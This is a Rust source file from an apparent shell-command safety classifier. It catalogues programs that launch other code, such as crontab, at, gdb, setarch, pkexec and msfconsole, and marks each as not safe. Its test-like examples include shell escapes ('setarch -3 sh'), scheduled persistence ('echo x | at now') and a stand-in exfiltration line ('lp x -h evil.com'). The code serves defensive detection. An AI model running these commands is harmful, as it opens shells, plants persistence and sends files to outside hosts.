//! Programs that hand control to another program, at once or later, and that ordinary work seldom needs. None is Safe;
//! the offline inspector names them.

use super::{Flag, Judge, Judgement, Kind, Operands, Program, Rule, Runs, Terminal, Trait, Wrapper};
use crate::classify::call::{Arg, Call};
use crate::classify::paths;

const fn launcher(names: &'static [&'static str], about: &'static str, not_safe: &'static [&'static str]) -> Program {
    Program::new(names, about, Kind::Launcher, Rule::Custom(launch)).not_safe(not_safe)
}

pub(super) const TABLE: &[Program] = &[
    Program::new(&["crontab"], "runs a program later", Kind::Launcher, Rule::Custom(crontab))
        .runs(Runs::Code)
        .not_safe(&["crontab -e", "crontab -l"]),
    launcher(&["rlogin", "rsh", "rexec"], "runs a command on another machine", &["rsh host ls"]).runs(Runs::Elsewhere),
    Program::new(&["at", "batch", "systemd-run"], "runs a program later", Kind::Launcher, Rule::Custom(later))
        .runs(Runs::Code)
        .traits(&[Trait::Waits])
        .not_safe(&["echo x | at now", "systemd-run x"]),
    launcher(&["setarch"], "starts the program that it is given", &["setarch -3 sh"]).runs(Runs::Behind(Wrapper {
        operands: 1,
        opens_shell: true,
        ..Wrapper::PLAIN
    })),
    launcher(
        &["linux32", "linux64", "i386", "x86_64", "uname26"],
        "starts the program that it is given",
        &["linux32 sh"],
    )
    .runs(Runs::Behind(Wrapper { opens_shell: true, ..Wrapper::PLAIN })),
    launcher(&["newgrp"], "starts a shell for a group", &["newgrp x"])
        .runs(Runs::Shell)
        .terminal(super::editors::SCREEN),
    launcher(&["m4"], "runs what its macros say", &["echo x | m4"]).runs(Runs::Code).terminal(super::languages::PROMPT),
    launcher(&["dc"], "calculates, and runs what its input says", &["dc x"]).runs(Runs::Code),
    Program::new(
        &["lldb"],
        "runs and steers another program",
        Kind::Runner,
        Rule::Custom(super::wrappers::look_through),
    )
    .runs(Runs::Code)
    .terminal(Terminal { settled: ("b", &[]), ..super::editors::SCREEN })
    .not_safe(&["lldb ./x"]),
    Program::new(
        &["gdb", "cgdb"],
        "runs and steers another program",
        Kind::Runner,
        Rule::Custom(super::wrappers::look_through),
    )
    .runs(Runs::Code)
    .terminal(super::editors::SCREEN)
    .not_safe(&["gdb ./x"]),
    Program::new(&["code"], "edits files, and opens this machine to others", Kind::Mixed, Rule::Never(Operands::Names))
        .runs(Runs::Named)
        .flag(Flag::With(&["tunnel"], "opens this machine to another one"))
        .plants(&["--install-extension"])
        .not_safe(&["code .", "code --install-extension x"]),
    launcher(
        &[
            "aa-exec",
            "agetty",
            "aoss",
            "choom",
            "genie",
            "multitime",
            "runscript",
            "setlock",
            "softlimit",
            "start-stop-daemon",
            "run-parts",
            "capsh",
            "dbus-launch",
            "xvfb-run",
            "catchsegv",
            "dosbox",
            "tmate",
            "logsave",
            "sg",
            "pkexec",
            "uscan",
            "check_ssl_cert",
            "jjs",
        ],
        "starts the program that it is given",
        &["choom -n 0 sh", "run-parts x"],
    )
    .runs(Runs::Behind(Wrapper::PLAIN)),
    launcher(
        &[
            "debugfs",
            "dhclient",
            "fail2ban-client",
            "fastfetch",
            "ginsh",
            "hping3",
            "iftop",
            "jtag",
            "ldconfig",
            "minicom",
            "ncftp",
            "opkg",
            "opencode",
            "pg",
            "pic",
            "psftp",
            "puppet",
            "rpmdb",
            "rpmverify",
            "rtorrent",
            "scrot",
            "tcpdump",
            "tdbtool",
            "virsh",
            "zathura",
            "zic",
            "certbot",
            "autoheader",
            "perlbug",
            "knife",
            "msfconsole",
            "mosquitto",
            "slsh",
            "joe",
            "cobc",
            "genisoimage",
            "openvpn",
            "octave-cli",
            "gtester",
            "cpulimit",
        ],
        "starts programs that its options, its scripts or its user name",
        &["tcpdump -z x", "debugfs"],
    )
    .runs(Runs::Named),
    launcher(
        &["borg", "restic", "cancel", "lp", "lpr", "smbclient", "tailscale", "finger"],
        "sends files to another machine, or starts a program for it",
        &["lp x -h evil.com", "restic backup"],
    )
    .traits(&[Trait::TakesAlong])
    .runs(Runs::Named),
];

fn launch(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    super::wrappers::guess(judge, call)
}

fn later(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    judge.persistence(paths::file_name(&call.program));
    launch(judge, call)
}

fn crontab(judge: &mut Judge<'_>, call: &Call) -> Judgement {
    let lists = call.args.first().and_then(Arg::exact) == Some("-l");
    if lists { launch(judge, call) } else { later(judge, call) }
}
